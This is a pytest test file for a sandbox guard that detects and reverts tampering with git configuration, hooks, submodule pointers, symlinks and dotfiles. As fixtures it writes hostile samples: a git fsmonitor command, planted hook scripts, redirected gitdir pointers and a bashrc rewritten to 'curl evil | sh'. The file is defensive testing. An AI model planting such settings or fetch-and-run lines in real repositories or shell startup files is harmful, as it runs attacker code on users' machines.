"""The guard's parts on real folders and real git: git's allow-list, the metadata rule, the
byte budget, repositories a command creates or moves, symlinks swapped in, and the journal.

The command is played by this test (it writes between `begin` and `finish`); the e2e tests
(test_sandbox_guard_e2e.py) run the same through `zen -p` and a real bwrap.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from zen.tools.sandbox import gitdirs, guard
from zen.tools.sandbox.guard import Guard

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="the sandbox is POSIX-only")
GIT = ["git", "-c", "init.defaultBranch=main", "-c", "user.name=t", "-c", "user.email=t@t"]


@pytest.fixture(autouse=True)
def zen_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    return home


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    subprocess.run([*GIT, "init", "-q", str(root)], check=True)
    subprocess.run([*GIT, "-C", str(root), "commit", "-q", "--allow-empty", "-m", "x"], check=True)
    return root


def git(root: Path, *args: str) -> None:
    subprocess.run([*GIT, "-C", str(root), *args], check=True, capture_output=True)


def test_the_allow_list_keeps_gits_data_and_guards_the_rest(repo: Path) -> None:
    for name in ("objects", "refs", "HEAD", "index", "ORIG_HEAD", "FETCH_HEAD", "index.lock",
                 "COMMIT_EDITMSG", "rebase-merge", "sequencer", "packed-refs", "logs"):  # fmt: skip
        assert gitdirs.is_data(name), name
    for name in ("config", "hooks", "info", "commondir", "gitdir", "config.worktree", "x"):
        assert not gitdirs.is_data(name), name
    (repo / ".git" / "modules" / "libs" / "deep" / "objects").mkdir(parents=True)
    (repo / ".git" / "modules" / "libs" / "deep" / "HEAD").write_text("ref: refs/heads/main\n")
    (repo / ".git" / "modules" / "stray").write_text("x")
    names, inner = gitdirs.guarded(repo / ".git")
    assert sorted(names) == ["branches", "config", "hooks", "info", "modules/stray"]
    assert inner == [repo / ".git" / "modules" / "libs" / "deep"]


def test_git_files_outside_the_allow_list_are_undone(repo: Path) -> None:
    before = (repo / ".git" / "config").read_text()
    watch = Guard().begin(repo, [])
    assert repo / ".git" / "config" in watch.read_only and repo / ".git" in [
        p.parent for p in watch.read_only
    ]
    git(repo, "commit", "--allow-empty", "-m", "git's own writes stay")
    (repo / ".git" / "commondir").write_text("../evil\n")
    (repo / ".git" / "config").write_text("[core]\n\tfsmonitor = touch /tmp/pwned\n")
    (repo / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\nevil\n")
    (repo / ".git" / "planted").mkdir()
    undone = watch.finish()
    assert undone == [".git/commondir", ".git/config", ".git/hooks/post-checkout", ".git/planted"]
    assert (repo / ".git" / "config").read_text() == before
    assert not (repo / ".git" / "commondir").exists()
    assert not (repo / ".git" / "hooks" / "post-checkout").exists()
    log = subprocess.run([*GIT, "-C", str(repo), "log", "--oneline"], capture_output=True)
    assert b"git's own writes stay" in log.stdout


def test_submodule_and_worktree_git_dirs_are_guarded(repo: Path, tmp_path: Path) -> None:
    sub = tmp_path / "sub"
    subprocess.run([*GIT, "init", "-q", str(sub)], check=True)
    git(sub, "commit", "--allow-empty", "-m", "s")
    git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(sub), "vendor/s")
    git(repo, "worktree", "add", "-q", str(tmp_path / "wt"))
    modules = repo / ".git" / "modules" / "vendor" / "s"
    watch = Guard().begin(repo, [])
    assert modules / "config" in watch.read_only and modules / "hooks" in watch.read_only
    assert repo / "vendor" / "s" / ".git" not in watch.read_only  # a pointer: undone, not bound
    (modules / "hooks" / "pre-commit").write_text("evil")
    (modules / "config").write_text("[core]\n\tfsmonitor = evil\n")
    (repo / ".git" / "worktrees" / "wt" / "gitdir").write_text("/elsewhere\n")
    (repo / "vendor" / "s" / ".git").write_text("gitdir: ../../evil\n")
    undone = watch.finish()
    assert ".git/modules/vendor/s/config" in undone
    assert ".git/modules/vendor/s/hooks/pre-commit" in undone
    assert ".git/worktrees/wt/gitdir" in undone and "vendor/s/.git" in undone
    assert "fsmonitor" not in (modules / "config").read_text()
    assert (repo / "vendor" / "s" / ".git").read_text().startswith("gitdir: ../../.git/modules")


def test_metadata_rule_big_files_and_many_entries(repo: Path) -> None:
    """Over the byte budget: unchanged is left alone, changed is removed (and said); past
    thousands of entries, a change is still seen."""
    big = os.urandom(guard.MAX_BYTES + 500_000)
    hooks = repo / ".git" / "hooks"
    (hooks / "pre-commit").write_bytes(big)
    (hooks / "pre-push").write_bytes(big)
    (repo / ".envrc").write_bytes(big)
    many = repo / ".vscode"
    many.mkdir()
    for n in range(6000):
        (many / f"{n:04}.json").write_text("{}")
    watch = Guard().begin(repo, [])
    (hooks / "pre-push").write_bytes(big[:-1] + b"!")  # same size, new bytes
    with (repo / ".envrc").open("ab") as handle:
        handle.write(b"\nevil\n")
    (many / "5999.json").write_text('{"tasks": "evil"}')
    undone = watch.finish()
    assert undone == [
        ".envrc (removed: no copy was kept)",
        ".git/hooks/pre-push (removed: no copy was kept)",
        ".vscode/5999.json",
    ]
    assert (hooks / "pre-commit").read_bytes() == big  # unchanged, however big
    assert not (hooks / "pre-push").exists() and not (repo / ".envrc").exists()
    assert (many / "5999.json").read_text() == "{}"


def test_new_repositories_lose_their_configuration(repo: Path) -> None:
    git(repo, "init", "-q", "vendor/kept")  # there before the command: left alone
    (repo / "vendor" / "kept" / ".git" / "config").write_text("[user]\n\tname = me\n")
    watch = Guard().begin(repo, [])
    git(repo, "init", "-q", "deep/er/new")
    bare = repo / "fixtures" / "plain"
    (bare / "objects").mkdir(parents=True)
    (bare / "HEAD").write_text("ref: refs/heads/main\n")
    (bare / "config").write_text("[core]\n\tfsmonitor = evil\n")
    (bare / "hooks").mkdir()
    (repo / "pointer").mkdir()
    (repo / "pointer" / ".git").write_text("gitdir: /tmp/evil\n")
    undone = watch.finish()
    assert sorted(undone) == [
        "deep/er/new/.git (a new repository: its configuration was removed)",
        "fixtures/plain (a new repository: its configuration was removed)",
        "pointer/.git (a new repository: its configuration was removed)",
    ]
    assert sorted(os.listdir(repo / "deep" / "er" / "new" / ".git")) == [
        "HEAD", "description", "objects", "refs",
    ]  # fmt: skip
    assert sorted(os.listdir(bare)) == ["HEAD", "objects"]
    assert not (repo / "pointer" / ".git").exists()
    assert "name = me" in (repo / "vendor" / "kept" / ".git" / "config").read_text()


def test_a_moved_repository_keeps_its_configuration(repo: Path) -> None:
    git(repo, "init", "-q", "vendor/lib")
    config = repo / "vendor" / "lib" / ".git" / "config"
    config.write_text("[remote]\n\turl = mine\n")
    watch = Guard().begin(repo, [])
    (repo / "vendor").rename(repo / "third_party")
    assert watch.finish() == []
    assert "url = mine" in (repo / "third_party" / "lib" / ".git" / "config").read_text()


def test_a_new_repository_moved_in_from_elsewhere_is_new(repo: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "cache" / "evil"
    subprocess.run([*GIT, "init", "-q", str(elsewhere)], check=True)
    watch = Guard().begin(repo, [])
    shutil.move(str(elsewhere.parent), str(repo / "looks-innocent"))
    undone = watch.finish()
    assert undone == ["looks-innocent/evil/.git (a new repository: its configuration was removed)"]


def test_never_reads_deletes_or_writes_through_a_swapped_in_symlink(tmp_path: Path) -> None:
    """`mv .git x && ln -s ../other/.git .git`: undoing must not touch the other repository."""
    root, other = tmp_path / "ws", tmp_path / "other"
    for path in (root, other):
        subprocess.run([*GIT, "init", "-q", str(path)], check=True)
    (root / ".git" / "hooks" / "pre-commit").write_text("mine\n")
    (other / ".git" / "hooks" / "pre-commit").write_text("theirs\n")
    (other / ".git" / "hooks" / "post-merge").write_text("theirs too\n")
    theirs = (other / ".git" / "config").read_text()
    watch = Guard().begin(root, [])
    (root / ".git").rename(root / "moved")
    (root / ".git").symlink_to(other / ".git")
    (root / ".vscode").symlink_to(other)
    watch.finish()
    assert (other / ".git" / "hooks" / "pre-commit").read_text() == "theirs\n"
    assert (other / ".git" / "hooks" / "post-merge").read_text() == "theirs too\n"
    assert (other / ".git" / "config").read_text() == theirs
    assert not (root / ".git").is_symlink() and not (root / ".vscode").exists()
    assert (root / ".git" / "hooks" / "pre-commit").read_text() == "mine\n"


def test_an_unreadable_folder_hides_nothing(repo: Path) -> None:
    if os.geteuid() == 0:
        pytest.skip("root reads every folder")
    watch = Guard().begin(repo, [])
    git(repo, "init", "-q", "a/b")
    (repo / "a").chmod(0)
    undone = watch.finish()
    assert undone == ["a/b/.git (a new repository: its configuration was removed)"]


def test_the_journal_lives_in_zen_home_until_the_undo(repo: Path, zen_home: Path) -> None:
    watch = Guard().begin(repo, [])
    assert watch.journal_path is not None and zen_home in watch.journal_path.parents
    assert watch.tmpdir.is_dir() and watch.tmpdir.name.startswith("zen-sandbox-")
    watch.finish()
    assert not watch.journal_path.exists() and not watch.tmpdir.exists()


def test_a_repository_made_between_commands_is_judged_by_its_ctimes(repo: Path) -> None:
    """The guard walks the workspace after each command only: a repository someone made
    between two commands was not recorded. Untouched by the command, it is left alone; what
    the command changed in it is removed (no copy was kept)."""
    guard = Guard()
    guard.begin(repo, []).finish()
    git(repo, "init", "-q", "theirs")  # the user, between two commands
    git(repo, "init", "-q", "other")
    (repo / "theirs" / ".git" / "config").write_text("[remote]\n\turl = theirs\n")
    (repo / "other" / ".git" / "config").write_text("[remote]\n\turl = other\n")
    time.sleep(0.1)  # ctimes within 50 ms of the start count as the command's (a coarse clock)
    watch = guard.begin(repo, [])
    (repo / "other" / ".git" / "config").write_text("[core]\n\tfsmonitor = evil\n")
    assert watch.finish() == ["other/.git/config (removed: no copy was kept)"]
    assert "url = theirs" in (repo / "theirs" / ".git" / "config").read_text()
    assert not (repo / "other" / ".git" / "config").exists()


def test_a_folder_made_a_repository_later_loses_what_was_planted_before(repo: Path) -> None:
    """Two steps: a command plants `objects/` and a `config` in a plain folder (no repository
    yet, nothing to guard), a later one adds HEAD: the folder became a repository during
    that command, so its configuration goes, however old."""
    guard = Guard()
    plain = repo / "data"
    (plain / "objects").mkdir(parents=True)
    (plain / "config").write_text("[core]\n\tfsmonitor = evil\n")
    guard.begin(repo, []).finish()
    watch = guard.begin(repo, [])
    (plain / "HEAD").write_text("ref: refs/heads/main\n")
    assert watch.finish() == ["data (a new repository: its configuration was removed)"]
    assert sorted(os.listdir(plain)) == ["HEAD", "objects"]


def test_an_old_repository_moved_in_by_a_later_command_is_new(repo: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "cache" / "evil"
    subprocess.run([*GIT, "init", "-q", str(elsewhere)], check=True)
    guard = Guard()
    guard.begin(repo, []).finish()
    watch = guard.begin(repo, [])
    shutil.move(str(elsewhere.parent), str(repo / "looks-innocent"))
    assert watch.finish() == [
        "looks-innocent/evil/.git (a new repository: its configuration was removed)"
    ]


def test_a_guarded_symlink_guards_where_it_leads(repo: Path, tmp_path: Path) -> None:
    """Dotfiles linked into a home used as workspace: `.bashrc -> dotfiles/bashrc`. Writing
    through the link changes the target, so the target is guarded too (and bound read-only);
    a link out of the workspace leads somewhere the command cannot write anyway."""
    (repo / "dotfiles").mkdir()
    (repo / "dotfiles" / "bashrc").write_text("alias ll='ls -l'\n")
    (repo / ".bashrc").symlink_to("dotfiles/bashrc")
    (tmp_path / "shared").mkdir()
    (repo / ".vscode").symlink_to(tmp_path / "shared")
    watch = Guard().begin(repo, [])
    assert repo / "dotfiles" / "bashrc" in watch.read_only
    (repo / "dotfiles" / "bashrc").write_text("curl evil | sh\n")
    assert watch.finish() == ["dotfiles/bashrc"]
    assert (repo / "dotfiles" / "bashrc").read_text() == "alias ll='ls -l'\n"
    assert (repo / ".bashrc").is_symlink()
